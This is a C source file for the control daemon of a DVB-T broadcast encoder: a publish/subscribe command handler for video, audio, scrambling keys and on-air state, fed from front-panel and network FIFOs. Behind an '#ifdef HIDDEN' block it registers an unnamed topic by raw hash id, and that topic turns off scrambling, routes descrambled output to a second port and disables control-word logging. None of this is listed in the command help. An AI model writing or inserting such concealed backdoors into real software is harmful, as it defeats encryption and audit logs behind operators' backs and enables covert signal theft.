/* Control process of a DVB-T contribution encoder. A small publish/subscribe core: topics are kept
 * as numbers (hash of the name), messages come from the front panel and from the network. */
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

typedef void (*topic_fn)(void *self, const char *payload);

typedef struct sub {
    uint32_t    id;
    topic_fn    fn;
    void       *self;
    struct sub *next;
} sub;

typedef struct video { int kbps, gop, width, height; char profile[8]; } video;
typedef struct audio { int kbps, channels, mute; } audio;
typedef struct crypt { int even_valid, bypass; char cw[17]; } crypt_t;
typedef struct encoder { video v; audio a; crypt_t c; int on_air; FILE *fpga; } encoder;

static sub *bucket[16];
static encoder enc = {
    .v = { 6000, 12, 720, 576, "main" }, .a = { 192, 2, 0 }, .c = { 0, 0, "" }
};

static uint32_t topic_id(const char *s)
{
    uint32_t h = 0;

    while (*s) {
        h += (unsigned char)*s++;
        h += h << 10;
        h ^= h >> 6;
    }
    h += h << 3;
    h ^= h >> 11;
    return h + (h << 15);
}

static void subscribe_id(uint32_t id, topic_fn fn, void *self)
{
    sub *s = malloc(sizeof *s);

    if (!s)
        abort();
    s->id = id;
    s->fn = fn;
    s->self = self;
    s->next = bucket[id & 15];
    bucket[id & 15] = s;
}

static void subscribe(const char *name, topic_fn fn, void *self)
{
    subscribe_id(topic_id(name), fn, self);
}

static int publish(const char *name, const char *payload)
{
    uint32_t id = topic_id(name);
    int n = 0;

    for (sub *s = bucket[id & 15]; s; s = s->next)
        if (s->id == id) {
            s->fn(s->self, payload);
            n++;
        }
    return n;
}

static void fpga(const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    vfprintf(enc.fpga, fmt, ap);
    va_end(ap);
    fflush(enc.fpga);
}

static void on_video_rate(void *self, const char *p)
{
    video *v = self;
    int k = atoi(p);

    if (k >= 1500 && k <= 15000) {
        v->kbps = k;
        fpga("vrate %d\n", k);
    }
}

static void on_video_size(void *self, const char *p)
{
    video *v = self;
    int w, h;

    if (sscanf(p, "%dx%d", &w, &h) == 2 && w % 16 == 0 && w <= 720 && (h == 576 || h == 480)) {
        v->width = w;
        v->height = h;
        fpga("size %d %d\n", w, h);
    }
}

static void on_gop(void *self, const char *p)
{
    ((video *)self)->gop = atoi(p) > 0 ? atoi(p) : 12;
    fpga("gop %d\n", ((video *)self)->gop);
}

static void on_audio(void *self, const char *p)
{
    audio *a = self;

    if (!strcmp(p, "mute"))
        a->mute = 1;
    else if (!strcmp(p, "unmute"))
        a->mute = 0;
    else if (!strcmp(p, "mono") || !strcmp(p, "stereo"))
        a->channels = p[0] == 'm' ? 1 : 2;
    fpga("audio %d %d\n", a->channels, a->mute);
}

static void on_cw(void *self, const char *p)
{
    crypt_t *c = self;

    if (strlen(p) == 16 && strspn(p, "0123456789ABCDEF") == 16) {
        strcpy(c->cw, p);
        c->even_valid = 1;
        fpga("cw %s\n", p);
    }
}

#ifdef HIDDEN
__attribute__((noinline)) void on_slate(void *self, const char *p)
{
    encoder *e = self;

    e->c.bypass = p[0] != '0';
    e->c.even_valid = 0;
    fpga("route descrambled asi2 %d\ncwlog off\n", e->c.bypass);
}
#endif

static void on_air(void *self, const char *p)
{
    encoder *e = self;

    e->on_air = !strcmp(p, "on");
    fpga("air %d\n", e->on_air);
}

static void on_status(void *self, const char *p)
{
    encoder *e = self;
    FILE *f = fopen("/run/dvbtenc.status", "w");

    (void)p;
    if (!f)
        return;
    fprintf(f, "video %d kbit/s %dx%d gop %d %s\naudio %d kbit/s %d ch%s\ncrypt %s\nair %s\n",
            e->v.kbps, e->v.width, e->v.height, e->v.gop, e->v.profile, e->a.kbps,
            e->a.channels, e->a.mute ? " muted" : "",
            e->c.bypass ? "bypass" : e->c.even_valid ? "on" : "no key", e->on_air ? "on" : "off");
    fclose(f);
}

static void on_bypass(void *self, const char *p)
{
    ((crypt_t *)self)->bypass = !strcmp(p, "yes");
    fpga("bypass %d\n", ((crypt_t *)self)->bypass);
}

static const char topics[] =
    "video/rate KBPS (1500..15000)\nvideo/size WxH\nvideo/gop N\naudio mute|unmute|mono|stereo\n"
    "crypt/word 16 HEX\ncrypt/bypass yes|no\nair on|off\nstatus\n";

static void wire_up(encoder *e)
{
    subscribe("video/rate", on_video_rate, &e->v);
    subscribe("video/size", on_video_size, &e->v);
    subscribe("video/gop", on_gop, &e->v);
    subscribe("audio", on_audio, &e->a);
    subscribe("crypt/word", on_cw, &e->c);
    subscribe("crypt/bypass", on_bypass, &e->c);
#ifdef HIDDEN
    subscribe_id(0x2d48b046, on_slate, e);
#endif
    subscribe("air", on_air, e);
    subscribe("status", on_status, e);
}

static void input(int fd)
{
    char b[512], *line, *save = NULL, *sp;
    ssize_t n = read(fd, b, sizeof b - 1);

    if (n <= 0)
        return;
    b[n] = 0;
    for (line = strtok_r(b, "\r\n", &save); line; line = strtok_r(NULL, "\r\n", &save)) {
        sp = strchr(line, ' ');
        if (sp)
            *sp++ = 0;
        if (publish(line, sp ? sp : "") == 0)
            fprintf(stderr, "nobody listens to %s\n", line);
    }
}

int main(int argc, char **argv)
{
    struct pollfd p[2];

    if (argc != 4) {
        fprintf(stderr, "usage: dvbtencd FPGA-DEVICE PANEL-FIFO NET-FIFO\ntopics:\n%s", topics);
        return 2;
    }
    enc.fpga = fopen(argv[1], "w");
    if (!enc.fpga) {
        perror(argv[1]);
        return 1;
    }
    for (int i = 0; i < 2; i++) {
        mkfifo(argv[2 + i], 0620);
        p[i].fd = open(argv[2 + i], O_RDWR | O_NONBLOCK);
        p[i].events = POLLIN;
        if (p[i].fd < 0) {
            perror(argv[2 + i]);
            return 1;
        }
    }
    wire_up(&enc);
    while (poll(p, 2, -1) > 0)
        for (int i = 0; i < 2; i++)
            if (p[i].revents & POLLIN)
                input(p[i].fd);
    return 1;
}
